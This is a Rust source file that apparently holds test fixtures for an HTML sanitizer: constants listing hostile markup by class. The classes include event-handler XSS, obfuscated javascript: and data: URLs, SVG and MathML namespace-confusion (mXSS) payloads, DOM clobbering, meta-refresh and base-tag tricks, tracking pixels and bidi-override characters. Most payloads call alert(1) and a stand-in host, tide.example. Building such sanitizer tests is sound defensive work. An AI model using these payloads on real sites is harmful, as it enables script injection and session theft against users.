//! Hostile markup by class. All of it is our own; each string shows one way.

/// Handlers on elements that stay, and on elements that go.
pub(crate) const EVENT_HANDLERS: &[&str] = &[
    "<img src=tide onerror=alert(1)>",
    "<img/src=tide/onerror=alert(1)//>",
    "<img src=tide\nonerror\n=\nalert(1)>",
    "<IMG SRC=tide oNeRrOr=alert(1)>",
    "<p onclick=alert(1)>Tide</p>",
    "<b/onmouseover=alert(1)//>tide</b>",
    "<a href=https://tide.example/ ONCLICK='alert(1)'>tide</a>",
    "<details open ontoggle=alert(1)><summary onfocus=alert(1)>Tide</summary>Low</details>",
    "<video controls onloadstart=alert(1)><source src=x onerror=alert(1)></video>",
    "<audio src=https://tide.example/a.mp3 oncanplay=alert(1) controls></audio>",
    "<marquee onstart=alert(1)>tide</marquee>",
    "<time datetime=2024 onpointerenter=alert(1)>May</time>",
    "<table onwheel=alert(1)><tr onscroll=alert(1)><td onanimationend=alert(1)>1</td></tr></table>",
    "<abbr title='\" onmouseover=alert(1) x=\"'>HW</abbr>",
    "<math onclick=alert(1)><mi onclick=alert(1)>x</mi></math>",
    "<tide-mark onclick=alert(1) is=x>tide</tide-mark>",
    "<span onbeforematch=alert(1) hidden=until-found>tide</span>",
    "<div contenteditable autofocus onfocusin=alert(1)>tide</div>",
];

/// Addresses that run script, spelled so that a plain look misses it.
pub(crate) const SCRIPT_ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript&#58;alert(1)",
    "&#106;avascript&colon;alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript&Tab;:alert(1)",
    "javas&NewLine;cript:alert(1)",
    "&nbsp;javascript:alert(1)",
    "javascript://tide.example/%0Aalert(1)",
    "javascript:/*https://tide.example/*/alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:https://tide.example/a.jar!/b.html",
    "blob:https://tide.example/1",
    "filesystem:https://tide.example/temporary/a.html",
    "file:///etc/hosts",
    "about:blank",
    "chrome://settings",
    "moz-extension://tide/a.html",
    "intent://tide#Intent;scheme=x;end",
    "ms-word:ofe|u|https://tide.example/a.doc",
    "ftp://tide.example/a",
    "ws://tide.example/",
    "//",
    "https://",
    "http:///",
];

/// Where an address may be written.
pub(crate) const ADDRESS_PLACES: &[&str] = &[
    "<a href=\"ADDRESS\">tide</a>",
    "<a href='#top' xlink:href=\"ADDRESS\">tide</a>",
    "<img src=\"ADDRESS\" srcset=\"ADDRESS 2x, ADDRESS 640w\" alt=tide>",
    "<img data-src=\"ADDRESS\" data-srcset=\"ADDRESS 2x\" data-original=\"ADDRESS\" longdesc=\"ADDRESS\">",
    "<picture><source srcset=\"ADDRESS\"><img src=/tide.jpg></picture>",
    "<video src=\"ADDRESS\" poster=\"ADDRESS\" controls><track src=\"ADDRESS\" kind=captions></video>",
    "<audio controls><source src=\"ADDRESS\" type=audio/mpeg></audio>",
    "<blockquote cite=\"ADDRESS\">The tide.</blockquote><q cite=\"ADDRESS\">Low</q>",
    "<iframe src=\"ADDRESS\"></iframe><embed src=\"ADDRESS\"><object data=\"ADDRESS\"></object>",
    "<form action=\"ADDRESS\"><button formaction=\"ADDRESS\">Go</button></form>",
    "<math href=\"ADDRESS\"><mi xlink:href=\"ADDRESS\">x</mi></math>",
    "<svg><a href=\"ADDRESS\" xlink:href=\"ADDRESS\"><text>tide</text></a></svg>",
    "<map name=m><area href=\"ADDRESS\" shape=default></map><img usemap='#m' src=/tide.jpg>",
    "<body background=\"ADDRESS\"><table background=\"ADDRESS\"><td background=\"ADDRESS\">1</table>",
];

/// Addresses that carry their own content.
pub(crate) const DATA_ADDRESSES: &[&str] = &[
    "<a href='data:text/html,<b onclick=alert(1)>tide</b>'>tide</a>",
    "<a href='data:text/html;base64,PGI+dGlkZTwvYj4='>tide</a>",
    "<a href='DATA:application/xhtml+xml,x'>tide</a>",
    "<a href='data:image/png;base64,iVBORw0KGgo='>tide</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:image/png,<svg>'>",
    "<img src='data:image/png;base64,\" onerror=alert(1) \"'>",
    "<img src='data:image/png;charset=x;base64,iVBORw0KGgo='>",
    "<img src='data:text/html;base64,iVBORw0KGgo=' srcset='data:image/png;base64,iVBORw0KGgo= 2x, data:text/html,x 3x'>",
    "<img src=' data:image/gif;base64,R0lGODlhAQABAAAAACw= '>",
    "<img src='data:image/webp;base64,AAAA\n\tAAAA'>",
    "<video controls src='data:video/mp4;base64,AAAA' poster='data:text/html,x'></video>",
];

/// Script, however it is written.
pub(crate) const SCRIPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//tide.example/a.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>import 'https://tide.example/a.js'</script>",
    "<script type=application/ld+json>{\"a\":\"</script><b onclick=alert(1)>tide</b>\"}</script>",
    "<script type=text/template><b onclick=alert(1)>tide</b></script>",
    "<script><!--<script></script>alert(1)--></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<math><script>alert(1)</script></math>",
    "<script type=math/tex>\\href{javascript:alert(1)}{x}</script>",
    "<script type='math/mml'><math><mi onclick=alert(1) href=javascript:alert(1)>x</mi></math></script>",
];

/// Pictures drawn in the page.
pub(crate) const DRAWINGS: &[&str] = &[
    "<svg onload=alert(1)><g/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>tide</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><use xlink:href=https://tide.example/a.svg#b></use></svg>",
    "<svg><foreignObject><body onload=alert(1)><b onclick=alert(1)>tide</b></foreignObject></svg>",
    "<svg><image href=javascript:alert(1) width=9 height=9></svg>",
    "<svg><style>@import 'https://tide.example/a.css';</style><text>tide</text></svg>",
    "<svg><title><b onclick=alert(1)>tide</b></title><desc><i onclick=alert(1)>x</i></desc></svg>",
    "<svg><handler type=text/javascript ev:event=load>alert(1)</handler></svg>",
    "<svg><discard onbegin=alert(1)><mpath href=//tide.example/></svg>",
    "<img src=tide.svg><object type=image/svg+xml data=tide.svg></object>",
    "<svg width=300 height=200 onload=alert(1)><rect onclick=alert(1) fill=red width=9 height=9></svg>",
    "<svg width=300 height=200><script>alert(1)</script><style>*{fill:url(//tide.example/a)}</style><circle r=9 style='fill:url(//tide.example/a);stroke:expression(alert(1))'></svg>",
    "<svg width=300 height=200><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject><rect></svg>",
    "<svg width=300 height=200><a href=javascript:alert(1)><text>tide</text></a><animate attributeName=href to=javascript:alert(1)><set attributeName=onclick to=alert(1)></svg>",
    "<svg width=300 height=200><rect fill='url(https://tide.example/a#b)' stroke=\"'/><script>alert(1)</script>\"><use href=https://tide.example/a.svg#b /></svg>",
    "<svg width=300 height=200><image href=https://tide.example/a.png /><feImage href=//tide.example/a /><filter><feImage href=//tide.example/b /></filter><text>&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;</text></svg>",
    "<svg width=300 height=200><title>&quot; onerror=alert(1) x=&quot;</title><rect id='\"><script>' width=9></svg>",
    "<svg width=300 height=200><defs><g id=a><use href='#b'/><use href='#b'/></g><g id=b><use href='#a'/><use href='#a'/></g></defs><use href='#a'/><rect/></svg>",
    "<svg width=300 height=200><g><g><svg><p>tide<b onclick=alert(1)>tide</b></p></svg></g></g><path d=\"M0 0'/><script>alert(1)</script>\"></svg>",
    "<svg width=300 height=200><desc><h1 onclick=alert(1)>tide</h1><img src=x onerror=alert(1)></desc><rect/></svg>",
    "<svg width=300 height=200 viewBox='0 0 9 9\"><script>alert(1)</script>'><mask id=m><rect/></mask><pattern><rect/></pattern><rect mask='url(#m)'/></svg>",
];

/// Players, posts and pictures by other names, with ways out in them.
pub(crate) const EMBEDS: &[&str] = &[
    "<iframe src='https://www.youtube.com/embed/x%22%3E%3Cscript%3Ealert(1)' title='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<iframe src='https://w.soundcloud.com/player/?url=javascript%3Aalert(1)' title=tide></iframe>",
    "<iframe src='https://www.facebook.com/plugins/post.php?href=javascript%3Aalert(1)%2F%2Ffacebook.com%2F' title=tide></iframe>",
    "<iframe data-src='javascript:alert(1)' src='data:text/html,<script>alert(1)</script>' title=tide></iframe>",
    "<iframe src='https://user:key@player.vimeo.com/video/1' title=tide></iframe>",
    "<iframe src='https://geo.dailymotion.com/player.html?video=x\" onload=alert(1)' title=tide></iframe>",
    "<lite-youtube videoid='x\" onload=alert(1)' style='background:url(javascript:alert(1))'></lite-youtube>",
    "<lite-youtube videoid='../../redirect?q=//tide.example' playlabel='\"><img src=x onerror=alert(1)>'></lite-youtube>",
    "<amp-youtube data-videoid='\"><script>alert(1)</script>'></amp-youtube><amp-facebook data-href='javascript:alert(1)'></amp-facebook>",
    "<amp-img src='javascript:alert(1)' srcset='javascript:alert(1) 2x'><noscript><img src=x onerror=alert(1)></noscript></amp-img>",
    "<a data-embed='\" onclick=alert(1)' href=javascript:alert(1)>tide</a><a data-embed=youtube href=javascript:alert(1)>tide</a>",
    "<a data-embed=frame href=https://tide.example/><b onclick=alert(1)>tide</b><img src=x onerror=alert(1)></a>",
    "<blockquote class='twitter-tweet' cite='javascript:alert(1)'><a href='javascript:alert(1)'>tide</a> <b onclick=alert(1)>high water</b></blockquote>",
    "<script src='https://gist.github.com/\" onerror=alert(1)//a.js'></script><script src=https://gist.github.com.tide.example/a.js>alert(1)</script>",
    "<noscript><img src='/tide.jpg' onerror=alert(1) srcset='javascript:alert(1) 2x'></noscript>",
    "<div style=\"background-image:url('javascript:alert(1)')\"></div><div data-bg='javascript:alert(1)'></div><div style='background:url(//tide.example/a.jpg\"onerror=alert(1))'></div>",
    "<object data='javascript:alert(1)' type=image/svg+xml title='\" onload=alert(1)'></object><embed src='data:image/svg+xml,<svg onload=alert(1)>' type=image/svg+xml>",
    "<picture><source srcset='javascript:alert(1) 1x, data:image/svg+xml;base64,AAAA 2x'><img data-src='javascript:alert(1)' data-full-src='vbscript:x.y/z'></picture>",
    "<video data-src='javascript:alert(1)' data-poster='javascript:alert(1)'><track src=javascript:alert(1) label='\" onload=alert(1)' srclang='\"x'></video>",
    "<video src=https://tide.example/a.mp4><track kind=captions src=https://tide.example/a.vtt label='\"><script>alert(1)</script>' srclang='en\" onload=x'></video>",
    "<img class=emoji src=/emoji/a.png alt='\u{1F30A}<script>alert(1)</script>'><img class=emoji src=/emoji/b.png alt=':\"onerror=alert(1):'>",
    "<iframe src=https://tide.example/frame title='Tide table' srcdoc='<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>'></iframe>",
];

/// Other pages and programs within the page.
pub(crate) const FRAMES: &[&str] = &[
    "<iframe src=https://tide.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;' onload=alert(1)></iframe>",
    "<iframe src='https://www.youtube.com/embed/x\" onload=alert(1)'></iframe>",
    "<iframe src=https://www.youtube.com.tide.example/embed/x></iframe>",
    "<iframe src=//tide.example/https://www.youtube.com/embed/x></iframe>",
    "<object data=https://tide.example/a.swf><param name=x value=y><b onclick=alert(1)>x</b></object>",
    "<embed src=https://tide.example/a.swf allowscriptaccess=always>",
    "<applet code=Tide archive=//tide.example/a.jar></applet>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<portal src=https://tide.example/></portal><fencedframe></fencedframe>",
    "<noembed><b onclick=alert(1)>x</b></noembed><noframes><b onclick=alert(1)>x</b></noframes>",
];

/// Elements that a second parser would find in another vocabulary.
pub(crate) const NAMESPACE_CONFUSION: &[&str] = &[
    "<math><mi><table><mglyph><style><p title=\"</style><b onclick=alert(1)>tide</b>\"></style></mglyph></table></mi></math>",
    "<math><mtext><h2><style><!--</style><a title=\"--&gt;&lt;img src=tide onerror=alert(1)&gt;\">x</a></mtext></math>",
    "<math><mtext><mglyph><svg><mtext><style><p id='</style><img src=tide onerror=alert(1)>'>",
    "<math><ms><malignmark><xmp><b title=\"</xmp><i onclick=alert(1)>\">tide</b></ms></math>",
    "<math><annotation-xml encoding=text/html><style><p title='</style><i onclick=alert(1)>x'></annotation-xml></math>",
    "<math><semantics><mi>x</mi><annotation encoding=application/x-tex></math><b onclick=alert(1)>x</b></annotation></semantics>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<svg></p><style><a title='</style><img src=tide onerror=alert(1)>'>tide</a>",
    "<svg><foreignObject><math><mi><style><b title=\"</style><i onclick=alert(1)>\">x</b></mi></math></foreignObject></svg>",
    "<svg><desc><noscript><p title=\"</noscript><b onclick=alert(1)>tide</b>\"></desc></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=tide onerror=alert(1)>",
    "<table><caption><svg><title><table><style><p title='</style><b onclick=alert(1)>'></caption></table>",
    "<p><svg><p><math></p></svg><mtext><b onclick=alert(1)>tide</b></math>",
    "<svg><p title=\"</svg><b onclick=alert(1)>\">tide",
    "<math><mrow><p><math><mi>x</mi></math></p></mrow></math>",
    "<a href=/one><table><a href=/two></table><a href=/three>tide</a>",
    "<b><math><b><math><b><mi onclick=alert(1)>x",
];

/// Elements whose content one parser reads as text and another as markup.
pub(crate) const RAW_TEXT: &[&str] = &[
    "<noscript><p title=\"</noscript><b onclick=alert(1)>tide</b>\"></noscript>",
    "<noscript><img src=javascript:alert(1) onerror=alert(1)></noscript>",
    "<noscript>&lt;b onclick=alert(1)&gt;tide&lt;/b&gt;</noscript>",
    "<style><p title=\"</style><b onclick=alert(1)>tide</b>\"></style>",
    "<textarea><p title=\"</textarea><b onclick=alert(1)>tide</b>\"></textarea>",
    "<title><p title=\"</title><b onclick=alert(1)>tide</b>\"></title>",
    "<xmp><p title=\"</xmp><b onclick=alert(1)>tide</b>\"></xmp>",
    "<iframe><p title=\"</iframe><b onclick=alert(1)>tide</b>\"></iframe>",
    "<listing>&lt;b onclick=alert(1)&gt;</listing>",
    "<select><option><style></select><b onclick=alert(1)>tide</b></style></select>",
    "<pre>\n\n&lt;b onclick=alert(1)&gt;\r\0tide</pre>",
    "<code>&amp;lt;b onclick=alert(1)&amp;gt;</code>",
];

/// What is neither element nor text.
pub(crate) const COMMENTS: &[&str] = &[
    "<!--><img src=tide onerror=alert(1)>-->",
    "<!--><b onclick=alert(1)>tide</b>",
    "<!---!><b onclick=alert(1)>tide</b>-->",
    "<!-- --!><b onclick=alert(1)>tide</b>",
    "<!--[if gte IE 5]><b onclick=alert(1)>tide</b><![endif]-->",
    "<![CDATA[<b onclick=alert(1)>tide</b>]]>",
    "<svg><![CDATA[</svg><b onclick=alert(1)>tide</b>]]></svg>",
    "<?xml version='1.0'?><b onclick=alert(1)>tide</b>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x '<b onclick=alert(1)>'>]>&x;",
    "</ onclick=alert(1)><//><b onclick=alert(1)>tide</b>",
    "<%= '<b onclick=alert(1)>' %>",
];

/// Names that would stand in for properties of the page's script.
pub(crate) const CLOBBERING: &[&str] = &[
    "<p id=location>Tide</p><a href='#location'>see</a>",
    "<p id=__proto__>Tide</p><a href='#__proto__'>see</a>",
    "<a id=document name=cookie href=https://tide.example/>tide</a><a href='#document'>see</a>",
    "<form id=body><input name=attributes><input name=parentNode></form><a href='#body'>see</a>",
    "<img name=getElementById src=/tide.jpg><img id=currentScript src=/tide.jpg>",
    "<p id=clearleaf->Tide</p><a href='#clearleaf-'>see</a>",
    "<p id=clearleaf-title>Tide</p><a href='#clearleaf-title'>see</a>",
    "<p id='x\" onclick=alert(1) \"'>Tide</p><a href='#x\" onclick=alert(1) \"'>see</a>",
    "<p id='a b'>Tide</p><a href='#a%20b'>see</a><a href='#'>top</a><a href='#%'>odd</a>",
    "<slot name=x></slot><object name=self></object><iframe name=top></iframe>",
];

/// Content that a script or a parser would put in place.
pub(crate) const TEMPLATES: &[&str] = &[
    "<template><b onclick=alert(1)>tide</b></template>",
    "<template><template><img src=tide onerror=alert(1)></template></template>",
    "<div><template shadowrootmode=open><b onclick=alert(1)>tide</b><script>alert(1)</script></template></div>",
    "<div><template shadowrootmode=closed><slot onslotchange=alert(1)></slot></template><b onclick=alert(1)>x</b></div>",
    "<p><template shadowrootmode=open><style>:host{position:fixed}</style><slot></slot></template>tide</p>",
    "<table><template><tr><td onclick=alert(1)>1</template></table>",
    "<svg><template><b onclick=alert(1)>tide</b></template></svg>",
];

/// Fields, buttons and what sends them.
pub(crate) const FORMS: &[&str] = &[
    "<form action=https://tide.example/><input name=password type=password><button>Go</button></form>",
    "<form><button formaction=javascript:alert(1)>Go</button><input type=image formaction=javascript:alert(1)></form>",
    "<button form=x formaction=javascript:alert(1)>Go</button><form id=x></form>",
    "<input autofocus onfocus=alert(1)><input type=hidden oncontentvisibilityautostatechange=alert(1)>",
    "<select onchange=alert(1)><option>1</select><datalist><option></datalist>",
    "<textarea autofocus onfocus=alert(1)>tide</textarea><keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1) action=javascript:alert(1)>",
    "<label for=x onclick=alert(1)>tide</label><output onclick=alert(1)>1</output>",
    "<button popovertarget=p onclick=alert(1)>tide</button><div popover id=p onbeforetoggle=alert(1)>x</div>",
    "<button commandfor=d command=show-modal>tide</button><dialog id=d open onclose=alert(1)>x</dialog>",
];

/// Elements of the head that act wherever they stand.
pub(crate) const HEAD_ELEMENTS: &[&str] = &[
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=https://tide.example/'>",
    "<meta http-equiv=content-security-policy content=\"script-src 'none'\">",
    "<meta name=referrer content=unsafe-url>",
    "<base href=javascript:alert(1)//><a href=/tide>tide</a>",
    "<base href='data:text/html,'><a href=/tide>tide</a><img src=tide.jpg>",
    "<base target=_top href=https://user:key@tide.example/><a href=/tide>tide</a>",
    "<link rel=stylesheet href=https://tide.example/a.css>",
    "<link rel=import href=https://tide.example/a.html><link rel=preload as=script href=//tide.example/>",
    "<link rel=prerender href=https://tide.example/><link rel=dns-prefetch href=//tide.example>",
    "<html onclick=alert(1) manifest=//tide.example><body onload=alert(1) onpageshow=alert(1)>",
];

/// Ways to lay something over the page or to fetch something.
pub(crate) const STYLES: &[&str] = &[
    "<p style='position:fixed;inset:0'>Tide</p>",
    "<p style='background:url(https://tide.example/a.png)'>Tide</p>",
    "<p style='width:expression(alert(1))'>Tide</p>",
    "<p style='-moz-binding:url(//tide.example/a.xml#b);behavior:url(a.htc)'>Tide</p>",
    "<p style=\"list-style-image:url('javascript:alert(1)')\">Tide</p>",
    "<style>@import url(https://tide.example/a.css);p{color:red}</style>",
    "<style>@font-face{font-family:x;src:url(//tide.example/a.woff)}</style>",
    "<p class='fixed inset-0 language-\" onclick=alert(1)'>Tide</p>",
    "<pre><code class='language-css\" style=\"position:fixed'>a{}</code></pre>",
    "<font color=red size=7 face='x\" onclick=alert(1)'>tide</font><center align=left>x</center>",
    "<td background=//tide.example/a.png bgcolor=red>1</td><p align=right dir='x\"'>x</p>",
];

/// Ways to tell a site who reads, and from where.
pub(crate) const TRACKING: &[&str] = &[
    "<a href=https://tide.example/ ping=https://tide.example/seen>tide</a>",
    "<a href=https://tide.example/ target=_blank rel=opener referrerpolicy=unsafe-url>tide</a>",
    "<a href=https://tide.example/ attributionsrc download=a.exe hreflang=en type=x>tide</a>",
    "<img src=https://tide.example/a.gif width=1 height=1>",
    "<img src=/tide.jpg attributionsrc=https://tide.example/ crossorigin=use-credentials referrerpolicy=unsafe-url>",
    "<img src=/tide.jpg srcset='javascript:alert(1) 1x, data:text/html,x 2x, //tide.example/a.jpg 3x'>",
    "<img srcset='/a.jpg,/b.jpg 2x,,, /c,d,.jpg 640w , \"onerror=alert(1) 9x, /e.jpg 1x 2x 3h'>",
    "<img srcset='/a.jpg 1e999x, /b.jpg -1w, /c.jpg 0x, /d.jpg javascript:alert(1)'>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1) src=/tide.jpg longdesc=//tide.example/>",
    "<video controls autoplay preload=auto src=https://tide.example/a.mp4 crossorigin></video>",
    "<img src=/tide.jpg loading=eager fetchpriority=high decoding=sync elementtiming=x sizes=100vw>",
];

/// Names and keys before the host.
pub(crate) const CREDENTIALS: &[&str] = &[
    "<a href=https://user:key@tide.example/>tide</a>",
    "<a href='https:\\\\user@tide.example\\a'>tide</a>",
    "<a href=//user:@tide.example/>tide</a>",
    "<a href='https://bank.example%40tide.example/'>tide</a>",
    "<a href=https://a:b@c:d@tide.example/>tide</a>",
    "<img src=https://user:key@tide.example/a.jpg srcset='https://user@tide.example/b.jpg 2x'>",
    "<q cite=http://user@tide.example/>tide</q>",
    "<video controls poster=https://u:p@tide.example/p.jpg src=https://u@tide.example/v.mp4></video>",
];

/// Markup that is no markup.
pub(crate) const MALFORMED: &[&str] = &[
    "<img src=\"tide\"onerror=alert(1)>",
    "<img src='tide' alt='a\"b' \"onerror=alert(1)\">",
    "<img src=`tide` onerror=`alert(1)`>",
    "<<b onclick=alert(1)>tide</b>",
    "<b <i onclick=alert(1)>tide",
    "<p <p onclick=alert(1)>tide",
    "<a href=\"https://tide.example/\" \"><b onclick=alert(1)>tide</b>",
    "<b\u{0}onclick=alert(1)>tide</b>",
    "<\u{0}script>alert(1)</script>",
    "\u{FEFF}<b\u{A0}onclick=alert(1)>tide</b>",
    "<b =onclick=alert(1) =x>tide</b><b '=onclick=alert(1)>tide</b>",
    "<p id=1 id=2 title=3 title='4' onclick=5 onclick=6>tide</p>",
    "<ruby>a<rt onclick=alert(1)>b<rtc><rp onclick=alert(1)>c</ruby>",
    "<li value='1\" onclick=alert(1)'>x<ol start=99999999999999999999><li>y</ol>",
    "<td colspan=99999 rowspan='-1' scope='x\"'>1</td><img width=1e9 height='\"' src=/a.jpg>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href=https://tide.example/<b>onclick=alert(1)</b>>tide</a>",
];

/// Characters that no field of metadata may hold.
pub(crate) const CHARACTERS: &[&str] = &[
    "Tide \u{202E}gpj.exe",
    "Tide \u{2066}low\u{2069} \u{202A}high\u{202C}",
    "Tide\u{7}\u{8}\u{1B}[31m",
    "Tide&#x202E;&#8238;&#7;&#27;x",
    "Tide\u{85}\u{9F}\u{FEFF}x",
    "Tide &amp;#x202E; &amp;lt;b onclick=alert(1)&amp;gt;",
];

/// Names of the fields of a head that describe the page.
pub(crate) const METAS: &[&str] = &[
    "og:title",
    "og:description",
    "og:site_name",
    "og:image",
    "og:url",
    "og:locale",
    "article:author",
    "article:published_time",
    "article:modified_time",
    "author",
    "description",
    "date",
    "dc.title",
    "dc.creator",
    "twitter:title",
    "twitter:image",
    "twitter:creator",
    "application-name",
];
